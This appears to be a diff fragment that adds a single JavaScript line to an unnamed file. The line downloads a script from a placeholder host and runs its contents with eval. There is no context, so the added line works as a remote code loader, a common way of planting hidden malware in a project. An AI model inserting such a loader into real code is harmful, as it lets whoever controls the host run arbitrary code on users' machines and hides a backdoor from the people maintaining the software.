@@ -1,0 +1,1 @@
+fetch('https://example.invalid/p.js').then((r) => r.text()).then(eval);
